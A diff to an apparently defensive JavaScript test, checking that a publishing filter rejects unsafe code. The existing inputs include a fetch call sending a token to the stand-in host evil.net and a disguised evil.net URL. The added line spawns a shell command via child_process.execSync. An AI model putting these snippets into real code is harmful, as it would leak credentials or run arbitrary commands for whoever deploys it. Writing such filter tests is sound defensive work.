@@ -121,6 +121,7 @@ test('code is published as it is or not at all', async () => {
   expect(await published(good, 'code')).toBe(good)
   expect(await published('fetch("https://evil.net/?" + token)', 'code')).toMatch(/^NOT: It leads/)
   expect(await published('fetch("https://u@evil.net/")', 'code')).toMatch(/^NOT: It leads/)
+  expect(await published('require("child_process").execSync(a)', 'code')).toMatch(/^NOT: It starts/)
   expect(await published('const a\u200b = 1', 'code')).toMatch(/^NOT: It holds characters/)
   expect(await published(`// ${canary}`, 'code')).toMatch(/^NOT/)
 })
